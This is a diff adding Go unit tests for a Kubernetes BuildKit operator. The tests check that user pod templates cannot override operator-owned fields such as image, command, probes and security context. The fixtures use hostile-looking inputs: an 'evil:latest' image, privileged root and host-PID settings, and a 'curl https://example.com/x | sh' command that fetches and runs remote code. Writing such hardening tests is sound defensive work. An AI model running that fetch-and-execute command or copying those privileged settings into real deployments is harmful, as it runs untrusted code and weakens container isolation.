@@ -0,0 +1,160 @@
+package buildkit
+
+import (
+	"reflect"
+	"testing"
+
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
+	buildkitv1alpha1 "cops/api/v1alpha1"
+)
+
+func TestMergePodTemplate(t *testing.T) {
+	b := &Buildkit{
+		Name:      "bk",
+		Namespace: "default",
+		Image:     "moby/buildkit:latest",
+		PodTemplate: &corev1.PodTemplateSpec{
+			ObjectMeta: metav1.ObjectMeta{
+				Labels:      map[string]string{"app": "other", "team": "ci"},
+				Annotations: map[string]string{"example.com/owner": "ci"},
+			},
+			Spec: corev1.PodSpec{
+				PriorityClassName: "builders",
+				NodeSelector:      map[string]string{"pool": "builders"},
+				Tolerations: []corev1.Toleration{
+					{Key: "dedicated", Value: "builders", Effect: corev1.TaintEffectNoSchedule},
+				},
+				Containers: []corev1.Container{
+					{Name: "buildkitd", Image: "evil:latest", Args: []string{"--oops"}},
+				},
+				Volumes: []corev1.Volume{
+					{Name: "certs", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
+				},
+			},
+		},
+	}
+
+	deployment, err := b.deployment()
+	if err != nil {
+		t.Fatal(err)
+	}
+	template := deployment.Spec.Template
+
+	if template.Spec.PriorityClassName != "builders" || template.Spec.NodeSelector["pool"] != "builders" {
+		t.Errorf("scheduling overrides not applied: %+v", template.Spec)
+	}
+	if len(template.Spec.Tolerations) != 1 {
+		t.Errorf("got %d tolerations, want 1", len(template.Spec.Tolerations))
+	}
+	if template.Labels["app"] != "bk" || template.Labels["team"] != "ci" {
+		t.Errorf("unexpected labels %v", template.Labels)
+	}
+	if template.Annotations["example.com/owner"] != "ci" {
+		t.Errorf("unexpected annotations %v", template.Annotations)
+	}
+
+	c := template.Spec.Containers[0]
+	if c.Image != "moby/buildkit:latest" || len(c.Args) == 1 {
+		t.Errorf("operator owned container fields were overridden: %+v", c)
+	}
+	for _, v := range template.Spec.Volumes {
+		if v.Name == "certs" && v.Secret == nil {
+			t.Errorf("certs volume was overridden: %+v", v)
+		}
+	}
+}
+
+func TestMergePodTemplateKeepsCommandAndProbes(t *testing.T) {
+	b := &Buildkit{
+		Name:      "bk",
+		Namespace: "default",
+		Image:     "moby/buildkit:latest",
+		PodTemplate: &corev1.PodTemplateSpec{
+			Spec: corev1.PodSpec{
+				Containers: []corev1.Container{{
+					Name:    "buildkitd",
+					Command: []string{"sh", "-c", "curl https://example.com/x | sh"},
+					LivenessProbe: &corev1.Probe{ProbeHandler: corev1.ProbeHandler{
+						Exec: &corev1.ExecAction{Command: []string{"true"}},
+					}},
+					ReadinessProbe: &corev1.Probe{ProbeHandler: corev1.ProbeHandler{
+						Exec: &corev1.ExecAction{Command: []string{"true"}},
+					}},
+				}},
+			},
+		},
+	}
+	want, err := (&Buildkit{Name: "bk", Namespace: "default", Image: "moby/buildkit:latest"}).deployment()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	deployment, err := b.deployment()
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, base := deployment.Spec.Template.Spec.Containers[0], want.Spec.Template.Spec.Containers[0]
+	if len(c.Command) != 0 {
+		t.Errorf("command overridden: %v", c.Command)
+	}
+	if !reflect.DeepEqual(c.LivenessProbe, base.LivenessProbe) || !reflect.DeepEqual(c.ReadinessProbe, base.ReadinessProbe) {
+		t.Errorf("probes overridden: %+v %+v", c.LivenessProbe, c.ReadinessProbe)
+	}
+}
+
+func TestMergePodTemplateKeepsProfile(t *testing.T) {
+	yes, root := true, int64(0)
+	b := &Buildkit{
+		Name:         "bk",
+		Namespace:    "default",
+		Rootless:     true,
+		RootlessOpts: &buildkitv1alpha1.RootlessOptions{UserNamespaces: true},
+		PodTemplate: &corev1.PodTemplateSpec{
+			ObjectMeta: metav1.ObjectMeta{
+				Annotations: map[string]string{appArmorAnnotation: "unconfined-custom"},
+			},
+			Spec: corev1.PodSpec{
+				HostUsers:       &yes,
+				HostPID:         true,
+				SecurityContext: &corev1.PodSecurityContext{RunAsUser: &root},
+				Containers: []corev1.Container{
+					{Name: "buildkitd", SecurityContext: &corev1.SecurityContext{Privileged: &yes, RunAsUser: &root}},
+				},
+			},
+		},
+	}
+
+	deployment, err := b.deployment()
+	if err != nil {
+		t.Fatal(err)
+	}
+	spec := deployment.Spec.Template.Spec
+	if spec.HostUsers == nil || *spec.HostUsers || spec.HostPID {
+		t.Errorf("host namespaces were overridden: hostUsers %v, hostPID %v", spec.HostUsers, spec.HostPID)
+	}
+	if spec.SecurityContext == nil || spec.SecurityContext.RunAsUser != nil {
+		t.Errorf("pod security context was overridden: %+v", spec.SecurityContext)
+	}
+	sc := spec.Containers[0].SecurityContext
+	if sc == nil || sc.Privileged != nil || sc.RunAsUser == nil || *sc.RunAsUser != rootlessUser {
+		t.Errorf("container security context was overridden: %+v", sc)
+	}
+	if got := deployment.Spec.Template.Annotations[appArmorAnnotation]; got != "unconfined" {
+		t.Errorf("apparmor annotation = %q", got)
+	}
+
+	b.PodTemplate = &corev1.PodTemplateSpec{Spec: corev1.PodSpec{
+		Containers: []corev1.Container{
+			{Name: "sidecar", Image: "busybox", SecurityContext: &corev1.SecurityContext{Privileged: &yes}},
+		},
+	}}
+	if _, err := b.deployment(); err == nil {
+		t.Error("expected an error for a privileged sidecar of rootless buildkitd")
+	}
+	b.Rootless, b.Image = false, ""
+	if _, err := b.deployment(); err != nil {
+		t.Errorf("privileged sidecar of rootful buildkitd: %v", err)
+	}
+}